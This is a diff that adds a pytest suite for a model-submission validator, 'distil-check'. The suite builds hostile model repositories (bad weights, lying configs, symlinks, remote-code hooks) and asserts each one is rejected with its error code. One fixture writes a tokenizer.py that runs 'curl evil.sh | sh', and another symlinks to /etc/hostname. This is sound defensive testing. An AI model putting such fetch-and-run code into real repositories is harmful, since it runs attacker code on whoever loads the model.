@@ -1,0 +1,460 @@
+"""The hostile-repo corpus: each attack a pre-check can stop, built by hand, run through
+`distil-check` (in-process `main`, --json), with the exact rejection code asserted.
+
+The valid tiny student passes every check; a re-sharded copy of it passes too and has the
+same content hash.
+"""
+
+from __future__ import annotations
+
+import json
+import math
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import torch
+
+from conftest import ROOT
+from model_builders import (
+    WEIGHTS,
+    clone,
+    edit_json,
+    header_of,
+    hostile_tokenizer_json,
+    raw_safetensors,
+    replace_file,
+    reshard,
+    rewrite_weights,
+    save_tensors,
+    tensors,
+)
+from distil.checks import CheckLimits, DuplicateRegistry, check_commitment
+from distil.checks.cli import main as distil_check
+from distil.hub import LocalModelStore
+from distil.commitment import Commitment
+
+MLP = ("mlp.gate_proj.weight", "mlp.up_proj.weight", "mlp.down_proj.weight")
+
+
+def run_check(capsys, path: Path, teacher_dir: Path, *extra: str) -> tuple[int, dict]:
+    rc = distil_check([str(path), "--teacher", str(teacher_dir), "--json", *extra])
+    out = capsys.readouterr().out
+    return rc, json.loads(out.strip().splitlines()[-1])
+
+
+# -- builders: (valid model dir, destination dir) -> extra CLI args ----------------------
+
+
+def tokenizer_py_remote_code(v: Path, d: Path):
+    clone(v, d)
+    (d / "tokenizer.py").write_text("import os\nos.system('curl evil.sh | sh')\n")
+    edit_json(d / "tokenizer_config.json", lambda c: c.update(auto_map={"AutoTokenizer": ["tokenizer.Evil", None]}))
+
+
+def auto_map_in_config(v: Path, d: Path):
+    clone(v, d)
+    edit_json(d / "config.json", lambda c: c.update(auto_map={"AutoModelForCausalLM": "modeling_evil.EvilLM"}))
+
+
+def auto_map_in_tokenizer_config(v: Path, d: Path):
+    clone(v, d)
+    edit_json(d / "tokenizer_config.json", lambda c: c.update(auto_map={"AutoTokenizer": ["tok.Evil", None]}))
+
+
+def bin_beside_decoy_safetensors(v: Path, d: Path):
+    clone(v, d)
+    torch.save({"model.embed_tokens.weight": torch.zeros(4, 4)}, d / "pytorch_model.bin")
+
+
+def forbidden(name: str, data: bytes = b"\0" * 64):
+    def build(v: Path, d: Path):
+        clone(v, d)
+        (d / name).parent.mkdir(parents=True, exist_ok=True)
+        (d / name).write_bytes(data)
+
+    build.__name__ = f"forbidden_{name}"
+    return build
+
+
+def symlink_out_of_repo(v: Path, d: Path):
+    clone(v, d, skip=("tokenizer.json",))
+    outside = d.parent / f"{d.name}-outside.json"
+    outside.write_bytes((v / "tokenizer.json").read_bytes())
+    (d / "tokenizer.json").symlink_to(outside)
+
+
+def symlink_to_system_file(v: Path, d: Path):
+    clone(v, d)
+    (d / "README.md").symlink_to("/etc/hostname")
+
+
+def dangling_symlink(v: Path, d: Path):
+    clone(v, d)
+    (d / "LICENSE").symlink_to(d / "no-such-file")
+
+
+def config_lies_about_vocab(v: Path, d: Path):
+    clone(v, d)
+    edit_json(d / "config.json", lambda c: c.update(vocab_size=151_936))
+
+
+def text_config_vocab_disagrees(v: Path, d: Path):
+    clone(v, d)
+    edit_json(d / "config.json", lambda c: c.update(text_config={"vocab_size": 151_936}))
+
+
+def embedding_disagrees_with_config(v: Path, d: Path):
+    def cut(state):
+        for name in ("model.embed_tokens.weight", "lm_head.weight"):
+            state[name] = state[name][:151_936].clone()
+        return state
+
+    rewrite_weights(v, d, cut)
+
+
+def config_lies_about_size(v: Path, d: Path):
+    """MLPs 32× wider than config.json's intermediate_size says: counted from the headers."""
+
+    def widen(state):
+        for name in list(state):
+            if name.endswith(MLP):
+                shape = (64, 4096) if name.endswith("down_proj.weight") else (4096, 64)
+                state[name] = torch.randn(shape).to(torch.bfloat16)
+        return state
+
+    rewrite_weights(v, d, widen)
+    return ["--max-params", "32_500_000"]
+
+
+def too_many_params(v: Path, d: Path):
+    clone(v, d)
+    return ["--max-params", "30_000_000"]
+
+
+def int8_without_quantization_config(v: Path, d: Path):
+    def quantise(state):
+        for name in list(state):
+            if name.endswith(MLP):
+                w = state[name].float()
+                scale = w.abs().amax(dim=1).clamp(min=1e-8)
+                state[name] = torch.round(w / scale[:, None] * 127).to(torch.int8)
+                state[name[: -len("weight")] + "SCB"] = scale
+        return state
+
+    rewrite_weights(v, d, quantise)
+
+
+def int8_plain_names(v: Path, d: Path):
+    def quantise(state):
+        for name in list(state):
+            if name.endswith(MLP):
+                state[name] = torch.zeros(state[name].shape, dtype=torch.int8)
+        return state
+
+    rewrite_weights(v, d, quantise)
+
+
+def gptq_tensors(v: Path, d: Path):
+    def quantise(state):
+        for name in list(state):
+            if name.endswith(MLP):
+                base = name[: -len("weight")]
+                rows, cols = state.pop(name).shape
+                state[base + "qweight"] = torch.zeros((cols // 8, rows), dtype=torch.int32)
+                state[base + "qzeros"] = torch.zeros((1, rows // 8), dtype=torch.int32)
+                state[base + "scales"] = torch.ones((1, rows), dtype=torch.bfloat16)
+        return state
+
+    rewrite_weights(v, d, quantise)
+
+
+def bnb_4bit_tensors(v: Path, d: Path):
+    def quantise(state):
+        for name in list(state):
+            if name.endswith(MLP):
+                n = state[name].numel()
+                state[name] = torch.zeros((n // 2, 1), dtype=torch.uint8)
+                state[name + ".absmax"] = torch.ones(n // 64, dtype=torch.float32)
+                state[name + ".quant_state.bitsandbytes__nf4"] = torch.zeros(16, dtype=torch.uint8)
+        return state
+
+    rewrite_weights(v, d, quantise)
+
+
+def quantization_config_entry(v: Path, d: Path):
+    clone(v, d)
+    edit_json(d / "config.json", lambda c: c.update(quantization_config={"quant_method": "bitsandbytes", "load_in_4bit": True}))
+
+
+def f32_tensors(v: Path, d: Path):
+    rewrite_weights(v, d, lambda s: {k: t.float() for k, t in s.items()})
+
+
+def header_claims_gigabytes(v: Path, d: Path):
+    clone(v, d, skip=(WEIGHTS,))
+    (d / WEIGHTS).write_bytes(raw_safetensors(b'{"a":{"dtype":"BF16","shape":[2],"data_offsets":[0,4]}}', b"\0" * 4, length=5_000_000_000))
+
+
+def duplicated_tensor_names(v: Path, d: Path):
+    clone(v, d, skip=(WEIGHTS,))
+    entry = '{"dtype":"BF16","shape":[2],"data_offsets":[0,4]}'
+    (d / WEIGHTS).write_bytes(raw_safetensors(f'{{"model.norm.weight":{entry},"model.norm.weight":{entry}}}'.encode(), b"\0" * 4))
+
+
+def duplicated_tensor_across_shards(v: Path, d: Path):
+    reshard(v, d, shards=2)
+    first = d / "model-00001-of-00002.safetensors"
+    second = d / "model-00002-of-00002.safetensors"
+    from safetensors.torch import load_file
+
+    a, b = load_file(str(first)), load_file(str(second))
+    name = sorted(b)[0]
+    a[name] = b[name]
+    save_tensors(first, a)
+
+
+def nan_filled_weights(v: Path, d: Path):
+    def poison(state):
+        state["model.layers.0.mlp.up_proj.weight"] = torch.full_like(state["model.layers.0.mlp.up_proj.weight"], math.nan)
+        return state
+
+    rewrite_weights(v, d, poison)
+
+
+def one_infinite_weight(v: Path, d: Path):
+    def poison(state):
+        state["model.norm.weight"][3] = math.inf
+        return state
+
+    rewrite_weights(v, d, poison)
+
+
+def trailing_bytes_after_tensors(v: Path, d: Path):
+    clone(v, d, skip=(WEIGHTS,))
+    (d / WEIGHTS).write_bytes((v / WEIGHTS).read_bytes() + b"teacher weights hidden here")
+
+
+def hole_between_tensors(v: Path, d: Path):
+    clone(v, d, skip=(WEIGHTS,))
+    header = {
+        "a": {"dtype": "BF16", "shape": [2], "data_offsets": [0, 4]},
+        "b": {"dtype": "BF16", "shape": [2], "data_offsets": [8, 12]},
+    }
+    (d / WEIGHTS).write_bytes(raw_safetensors(header, b"\0" * 12))
+
+
+def header_shape_lies(v: Path, d: Path):
+    header, data = header_of(v / WEIGHTS)
+    header["model.norm.weight"]["shape"] = [1_000_000]
+    clone(v, d, skip=(WEIGHTS,))
+    (d / WEIGHTS).write_bytes(raw_safetensors(header, data))
+
+
+def different_tokenizer(v: Path, d: Path):
+    clone(v, d)
+    replace_file(d / "tokenizer.json", hostile_tokenizer_json((v / "tokenizer.json").read_text()))
+
+
+def broken_tokenizer(v: Path, d: Path):
+    clone(v, d)
+    replace_file(d / "tokenizer.json", "{not json")
+
+
+def missing_tensor(v: Path, d: Path):
+    rewrite_weights(v, d, lambda s: {k: t for k, t in s.items() if k != "model.norm.weight"})
+
+
+def unexpected_tensor(v: Path, d: Path):
+    rewrite_weights(v, d, lambda s: {**s, "model.extra_head.weight": torch.zeros(8, 64, dtype=torch.bfloat16)})
+
+
+def unknown_model_type(v: Path, d: Path):
+    clone(v, d)
+    edit_json(d / "config.json", lambda c: c.update(model_type="evil_lm"))
+
+
+def unknown_architecture_class(v: Path, d: Path):
+    clone(v, d)
+    edit_json(d / "config.json", lambda c: c.update(architectures=["EvilForCausalLM"]))
+
+
+def config_breaks_loading(v: Path, d: Path):
+    clone(v, d)
+    edit_json(d / "config.json", lambda c: c.update(hidden_act="evil_act"))
+
+
+def missing(name: str):
+    def build(v: Path, d: Path):
+        clone(v, d, skip=(name,))
+
+    build.__name__ = f"missing_{name}"
+    return build
+
+
+def stray_shard_without_index(v: Path, d: Path):
+    clone(v, d)
+    save_tensors(d / "extra.safetensors", {"x": torch.zeros(4, dtype=torch.bfloat16)})
+
+
+def decoy_beside_index(v: Path, d: Path):
+    reshard(v, d, shards=2)
+    save_tensors(d / WEIGHTS, {"model.embed_tokens.weight": torch.zeros(4, 4, dtype=torch.bfloat16)})
+
+
+def config_not_json(v: Path, d: Path):
+    clone(v, d)
+    replace_file(d / "config.json", "{'vocab_size': 248320}")
+
+
+CASES = [
+    (tokenizer_py_remote_code, "REMOTE_CODE"),
+    (auto_map_in_config, "REMOTE_CODE"),
+    (auto_map_in_tokenizer_config, "REMOTE_CODE"),
+    (bin_beside_decoy_safetensors, "FORBIDDEN_FILE"),
+    (forbidden("model.gguf"), "FORBIDDEN_FILE"),
+    (forbidden("model.onnx"), "FORBIDDEN_FILE"),
+    (forbidden("weights.pkl"), "FORBIDDEN_FILE"),
+    (forbidden("embeddings.npy"), "FORBIDDEN_FILE"),
+    (forbidden("model.pt"), "FORBIDDEN_FILE"),
+    (forbidden("notes.txt"), "FORBIDDEN_FILE"),
+    (forbidden("extra/config.json", b"{}"), "FORBIDDEN_FILE"),
+    (symlink_out_of_repo, "SYMLINK"),
+    (symlink_to_system_file, "SYMLINK"),
+    (dangling_symlink, "SYMLINK"),
+    (config_lies_about_vocab, "VOCAB_SIZE"),
+    (text_config_vocab_disagrees, "VOCAB_SIZE"),
+    (embedding_disagrees_with_config, "EMBEDDING_SHAPE"),
+    (config_lies_about_size, "TOO_MANY_PARAMS"),
+    (too_many_params, "TOO_MANY_PARAMS"),
+    (int8_without_quantization_config, "QUANTIZED"),
+    (int8_plain_names, "QUANTIZED"),
+    (gptq_tensors, "QUANTIZED"),
+    (bnb_4bit_tensors, "QUANTIZED"),
+    (quantization_config_entry, "QUANTIZED"),
+    (f32_tensors, "DTYPE"),
+    (header_claims_gigabytes, "HEADER_INVALID"),
+    (trailing_bytes_after_tensors, "HEADER_INVALID"),
+    (hole_between_tensors, "HEADER_INVALID"),
+    (header_shape_lies, "HEADER_INVALID"),
+    (duplicated_tensor_names, "DUPLICATE_TENSOR"),
+    (duplicated_tensor_across_shards, "DUPLICATE_TENSOR"),
+    (nan_filled_weights, "NONFINITE"),
+    (one_infinite_weight, "NONFINITE"),
+    (different_tokenizer, "TOKENIZER_MISMATCH"),
+    (broken_tokenizer, "TOKENIZER_INVALID"),
+    (missing_tensor, "LOAD_KEYS"),
+    (unexpected_tensor, "LOAD_KEYS"),
+    (config_breaks_loading, "LOAD_FAILED"),
+    (unknown_model_type, "ARCHITECTURE"),
+    (unknown_architecture_class, "ARCHITECTURE"),
+    (missing("tokenizer.json"), "MISSING_FILE"),
+    (missing("config.json"), "MISSING_FILE"),
+    (missing(WEIGHTS), "MISSING_FILE"),
+    (stray_shard_without_index, "WEIGHT_INDEX"),
+    (decoy_beside_index, "WEIGHT_INDEX"),
+    (config_not_json, "CONFIG_INVALID"),
+]
+
+
+@pytest.mark.parametrize("build, code", CASES, ids=[b.__name__ for b, _ in CASES])
+def test_hostile_repo_is_rejected_with_its_code(build, code, valid_model, teacher_dir, tmp_path, capsys):
+    path = tmp_path / "model"
+    extra = build(valid_model, path) or []
+    rc, result = run_check(capsys, path, teacher_dir, *extra)
+    assert (result["code"], result["reason"]) == (code, "INVALID"), result["detail"]
+    assert rc == 1 and result["ok"] is False
+    assert result["detail"]
+
+
+def test_valid_model_passes_every_check(valid_model, teacher_reference):
+    store = LocalModelStore()
+    commitment = Commitment("alice/valid", store.add("alice/valid", valid_model))
+    result = check_commitment(
+        store, commitment, teacher=teacher_reference, owner_of=DuplicateRegistry().copy_lookup(_claim(commitment))
+    )
+    assert result.ok, result.detail
+    assert [s.status for s in result.steps] == ["pass"] * len(result.steps)
+    assert result.params == sum(t.numel() for t in tensors(valid_model).values())
+    assert result.content_hash.startswith("sha256:") and len(result.content_hash) == 71
+    assert result.files_hash.startswith("sha256:") and result.seen_public
+    assert Path(result.local_path) == valid_model
+
+
+def _claim(commitment, block=100, hotkey="5Hotkey"):
+    from distil.checks import Claim
+
+    return Claim(block, hotkey, str(commitment))
+
+
+def test_valid_model_cli_report_and_json(valid_model, teacher_dir, capsys):
+    rc, result = run_check(capsys, valid_model, teacher_dir)
+    assert rc == 0
+    assert set(result) == {"ok", "reason", "code", "detail", "params", "content_hash"}
+    assert result["ok"] is True and result["reason"] is None and result["code"] is None
+    assert distil_check([str(valid_model), "--teacher", str(teacher_dir)]) == 0
+    report = capsys.readouterr().out
+    for step in ("revision", "files", "config", "safetensors headers", "content", "tokenizer", "load"):
+        assert f"[pass] {step}" in report
+    assert "result: VALID" in report
+
+
+def test_the_same_cap_that_stops_the_lying_config_passes_the_honest_model(valid_model, teacher_dir, capsys):
+    rc, result = run_check(capsys, valid_model, teacher_dir, "--max-params", "32_500_000")
+    assert rc == 0 and result["params"] < 32_500_000
+
+
+def test_resharded_copy_has_the_same_content_hash(valid_model, teacher_dir, teacher_reference, tmp_path, capsys):
+    copy = reshard(valid_model, tmp_path / "resharded", shards=3)
+    _, original = run_check(capsys, valid_model, teacher_dir)
+    rc, resharded = run_check(capsys, copy, teacher_dir)
+    assert rc == 0, resharded
+    assert resharded["content_hash"] == original["content_hash"]
+    assert resharded["params"] == original["params"]
+
+    # The exact-file hashes differ (other files), so only the content hash catches it.
+    store = LocalModelStore()
+    first = Commitment("alice/original", store.add("alice/original", valid_model))
+    second = Commitment("mallory/copy", store.add("mallory/copy", copy))
+    a = check_commitment(store, first, teacher=teacher_reference)
+    registry = DuplicateRegistry()
+    registry, _, _ = registry.claim(a.files_hash, _claim(first, 100, "5Alice"))
+    registry, _, _ = registry.claim(a.content_hash, _claim(first, 100, "5Alice"))
+    b = check_commitment(store, second, teacher=teacher_reference, owner_of=registry.copy_lookup(_claim(second, 101, "5Mallory")))
+    assert (b.reason, b.code, b.copy_of) == ("COPY", "DUPLICATE_CONTENT", str(first))
+    assert b.files_hash != a.files_hash and b.content_hash == a.content_hash
+
+
+def test_size_limits(valid_model, teacher_reference, tmp_path):
+    path = clone(valid_model, tmp_path / "big-readme")
+    (path / "README.md").write_bytes(b"x" * 4096)
+    store = LocalModelStore()
+    commitment = Commitment("alice/big", store.add("alice/big", path))
+    result = check_commitment(store, commitment, CheckLimits(max_small_file_bytes=1024), teacher=teacher_reference)
+    assert result.code == "FILE_SIZE" and "README.md" in result.detail
+    result = check_commitment(store, commitment, CheckLimits(max_total_header_bytes=1000), teacher=teacher_reference)
+    assert result.code == "HEADER_INVALID" and "add up to" in result.detail
+
+
+def test_cli_subprocess_exit_codes(valid_model, teacher_dir, tmp_path):
+    """The console entry point as a miner runs it: 0 valid, 1 rejected, 2 usage."""
+    env = {"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin", "HF_HUB_DISABLE_TELEMETRY": "1", "HOME": str(tmp_path)}
+
+    def run(*args):
+        return subprocess.run(
+            [sys.executable, "-m", "distil.checks.cli", *args], capture_output=True, text=True, env=env, timeout=300
+        )
+
+    ok = run(str(valid_model), "--teacher", str(teacher_dir), "--json")
+    assert ok.returncode == 0, ok.stderr
+    assert json.loads(ok.stdout)["ok"] is True
+
+    bad = clone(valid_model, tmp_path / "bad")
+    (bad / "modeling_evil.py").write_text("print('pwned')\n")
+    rejected = run(str(bad), "--teacher", str(teacher_dir), "--json")
+    assert rejected.returncode == 1
+    assert json.loads(rejected.stdout)["code"] == "REMOTE_CODE"
+
+    usage = run("alice/model@main", "--teacher", str(teacher_dir))
+    assert usage.returncode == 2 and "not a commit sha" in usage.stderr
